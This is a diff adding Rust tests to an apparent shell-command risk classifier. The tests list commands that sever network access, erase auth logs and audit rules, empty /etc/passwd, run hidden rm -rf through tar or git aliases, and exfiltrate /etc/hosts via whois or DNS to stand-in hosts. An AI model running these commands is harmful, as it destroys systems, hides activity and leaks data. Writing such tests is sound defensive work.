@@ -333,3 +333,109 @@ fn no_judge_fails_whatever_its_words_are() {
         }
     }
 }
+
+#[test]
+fn what_cuts_the_host_off_is_forbidden() {
+    check(
+        Forbidden,
+        &[
+            "telinit 1",
+            "systemctl isolate rescue.target",
+            "modprobe -r virtio_net",
+            "rmmod e1000e",
+            "tc qdisc add dev eth0 root netem loss 100%",
+            "fuser -k 22/tcp",
+            "fuser -k -n tcp 22",
+            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss sshd.service replace",
+            "echo 'link set eth0 down' | ip -batch -",
+            "iptables-restore <<'EOF'\n*filter\n:INPUT DROP [0:0]\nCOMMIT\nEOF",
+            "echo 0000:00:03.0 > /sys/bus/pci/drivers/virtio-pci/unbind",
+        ],
+    );
+    check(
+        High,
+        &[
+            "modprobe -r nf_tables",
+            "tc qdisc add dev eth0 root netem loss 5%",
+            "fuser -k 8080/tcp",
+            "systemctl isolate graphical.target",
+            "systemctl mask --runtime cups.service",
+            "lvextend -r -L +5G /dev/vg0/data",
+        ],
+    );
+}
+
+#[test]
+fn what_remembers_logins_is_not_edited_and_accounts_are_not_emptied() {
+    check(
+        Forbidden,
+        &[
+            "sed -i '/203/d' /var/log/auth.log",
+            "sed -i d /etc/passwd",
+            "sed -i '1,$d' /etc/fstab",
+            "auditctl -D",
+            "auditctl -e 0",
+        ],
+    );
+    check(High, &["sed -i 's/a/b/' /etc/passwd", "auditctl -e 2"]);
+}
+
+#[test]
+fn what_tar_runs_and_removes_elsewhere_counts() {
+    check(
+        Forbidden,
+        &[
+            "tar cf /dev/null /tmp/a --checkpoint=1 --checkpoint-action=exec='rm -rf /usr'",
+            "tar -C / --remove-files -cf /dev/null etc",
+            "fio --name=x --filename=/dev/sda --rw=randwrite",
+            "git -c alias.x='!rm -rf /etc' x",
+        ],
+    );
+    check(High, &["tar -cf - /etc/ssh"]);
+}
+
+#[test]
+fn names_that_carry_data_of_the_host_are_not_only_asked_for() {
+    check(
+        High,
+        &[
+            "whois -h 198.51.100.7 \"$(base64 -w0 /etc/hosts)\"",
+            "dig +short \"$(cat /etc/hosts).t.example.net\"",
+            "date -f /etc/shadow",
+        ],
+    );
+    check(
+        ReadOnly,
+        &[
+            "for h in a.example b.example; do dig +short \"$h\"; done",
+            "dig +short \"$(hostname)\"",
+            "date -f /tmp/dates",
+        ],
+    );
+}
+
+#[test]
+fn links_and_aliases_of_the_text_itself_are_seen_through() {
+    check(
+        Forbidden,
+        &[
+            "ln -s /etc /tmp/old && rm -rf /tmp/old/*",
+            "ln -sfn /etc /tmp/old; cd /tmp/old; rm -rf ./*",
+            "shopt -s expand_aliases\nalias tidy='rm -rf'\ntidy /etc",
+            "rm -rf \"$(dirname /etc/hosts)\"",
+        ],
+    );
+    check(Low, &["ln -s /tmp/a /tmp/b; rm /tmp/b"]);
+}
+
+#[test]
+fn what_writes_without_end_fills_the_disk() {
+    check(High, &["yes > /var/tmp/.fill", "cat /dev/zero > /tmp/x"]);
+    check(Low, &["yes", "while sleep 1; do uptime; done"]);
+}
+
+#[test]
+fn processes_from_a_list_may_be_any() {
+    check(Forbidden, &["pgrep -f 'ss[h]d' | xargs -r kill -9"]);
+    check(High, &["ps -eo pid= | xargs kill -9"]);
+}
